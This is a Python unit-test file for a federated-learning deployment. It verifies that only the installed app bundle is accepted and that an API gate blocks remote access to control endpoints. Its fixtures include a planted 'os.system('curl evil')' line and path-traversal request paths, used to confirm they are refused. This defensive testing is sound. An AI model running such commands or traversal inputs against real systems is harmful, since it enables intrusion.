"""A site runs only its installed moma-fl: the bundle check and the SuperLink gate, unit level."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from flwr.cli.build import build_fab_from_disk

from deploy.app_bundle import AppRefused, check_fab, installed_version
from deploy.superlink import allowed
from server.flwr_app import write_app


def fab_of(folder: Path) -> bytes:
    return build_fab_from_disk(folder)


def own_app(tmp_path: Path) -> Path:
    return write_app(tmp_path / "app")


def test_the_coordinators_own_bundle_passes(tmp_path):
    check_fab(fab_of(own_app(tmp_path)))


def test_bundle_with_code_is_refused(tmp_path):
    app = own_app(tmp_path)
    (app / "client").mkdir()
    (app / "client" / "client_app.py").write_text("import os; os.system('curl evil')\n")
    with pytest.raises(AppRefused, match="files of its own"):
        check_fab(fab_of(app))


@pytest.mark.parametrize("old,new,match", [
    ('clientapp = "client.client_app:app"', 'clientapp = "evil.app:app"', "other components"),
    ('publisher = "moma-fl"', 'publisher = "someone"', "publisher"),
    ('version = "{v}"', 'version = "9.9.9"', "moma-fl 9.9.9"),
])
def test_bundle_naming_anything_else_is_refused(tmp_path, old, new, match):
    app = own_app(tmp_path)
    toml = app / "pyproject.toml"
    old = old.format(v=installed_version())
    assert old in toml.read_text()
    toml.write_text(toml.read_text().replace(old, new))
    with pytest.raises(AppRefused, match=match):
        check_fab(fab_of(app))


def test_garbage_is_refused():
    with pytest.raises(AppRefused, match="not a readable"):
        check_fab(b"not a zip")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(".info/CONTENT", "")
    with pytest.raises(AppRefused, match="no pyproject"):
        check_fab(buf.getvalue())


@pytest.mark.parametrize("path,host,ok", [
    ("/v1/fleet/pull-messages", "192.0.2.7", True),
    ("/health", "192.0.2.7", True),
    ("/v1/control/start-run", "192.0.2.7", False),
    ("/v1/control/register-node", "10.1.2.3", False),
    ("/v1/runtime/acquire-task", "192.0.2.7", False),
    ("/docs", "192.0.2.7", False),
    ("/v1/fleetx/../control/start-run", "192.0.2.7", False),
    ("/v1/fleet/../control/start-run", "192.0.2.7", False),
    ("/v1/fleet//../control/start-run", "192.0.2.7", False),
    ("/v1/control/start-run", "127.0.0.1", True),
    ("/v1/runtime/acquire-task", "::1", True),
    ("/v1/control/start-run", None, False),
    ("/v1/control/start-run", "::ffff:192.0.2.7", False),
])
def test_gate_lets_other_hosts_reach_only_the_fleet_api(path, host, ok):
    assert allowed(path, host, "10.9.9.9") is ok


def test_gate_counts_a_connection_to_the_bound_address_from_itself_as_local():
    assert allowed("/v1/control/start-run", "10.0.0.5", "10.0.0.5")
    assert not allowed("/v1/control/start-run", "10.0.0.6", "10.0.0.5")
    assert not allowed("/v1/control/start-run", None, None)
